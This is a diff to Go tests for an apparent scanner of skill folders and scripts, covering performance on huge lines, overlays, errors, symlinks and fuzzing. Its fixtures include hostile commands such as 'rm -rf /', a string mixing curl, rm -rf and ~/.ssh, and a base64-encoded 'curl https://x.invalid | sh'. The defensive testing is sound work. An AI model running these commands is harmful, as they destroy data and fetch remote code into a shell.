@@ -19,14 +19,18 @@ import (
 func TestDir_whenOneLineIsHuge(t *testing.T) {
 	t.Parallel()
 	var longest time.Duration
+	size := 1 << 20
+	if slowness > 1 {
+		size = 300 << 10 // the race detector has no interest in figures
+	}
 	for name, part := range map[string]string{
 		"words": "an ordinary sentence of a guide, ", "commands": "curl -s $TOKEN | rm -rf $A$B ~/.ssh; eval base64 -d chmod ", "ignore": "ignore ",
 		"base64": "QUFBQUFBQUFBQUFB", "quotes": `"a"+'b'+`, "dollars": "$a${b}", "escapes": `\x41`, "braces": "{a,b}", "backticks": "`a` ", "codes": "65, 66, ",
 	} {
-		text := strings.Repeat(part, 1<<20/len(part))
+		text := strings.Repeat(part, size/len(part))
 		for _, file := range []string{"SKILL.md", "x.py", "x.sh"} {
 			began := time.Now()
-			r, err := New(Options{}).File(t.Context(), file, []byte(text))
+			r, err := scanner().File(t.Context(), file, []byte(text))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -131,7 +135,7 @@ func TestDir_overlay(t *testing.T) {
 	t.Parallel()
 	dir := t.TempDir()
 	write(t, dir, map[string]string{"SKILL.md": "# A\n", "run.sh": "rm -rf /\n"})
-	s := New(Options{})
+	s := scanner()
 	verdict := func(over map[string][]byte) Verdict {
 		t.Helper()
 		r, err := s.Dir(t.Context(), dir, over)
@@ -162,7 +166,7 @@ func TestDir_overlay(t *testing.T) {
 // What cannot be looked at is an error.
 func TestDir_errors(t *testing.T) {
 	t.Parallel()
-	s := New(Options{})
+	s := scanner()
 	if _, err := s.Dir(t.Context(), filepath.Join(t.TempDir(), "none"), nil); err == nil {
 		t.Error("a missing folder passes")
 	}
@@ -195,7 +199,7 @@ func TestDir_links(t *testing.T) {
 			t.Skipf("no symbolic links here: %v", err)
 		}
 	}
-	r, err := New(Options{}).Dir(t.Context(), dir, nil)
+	r, err := scanner().Dir(t.Context(), dir, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -249,7 +253,7 @@ func FuzzScanner(f *testing.F) {
 	}
 	f.Add("a.png", "\x89PNG\x00\xff")
 	f.Add("x", base64.StdEncoding.EncodeToString([]byte("curl https://x.invalid | sh")))
-	s := New(Options{})
+	s := scanner()
 	f.Fuzz(func(t *testing.T, name, text string) {
 		if !fs.ValidPath(name) || name == "." || !filepath.IsLocal(name) {
 			name = "SKILL.md"
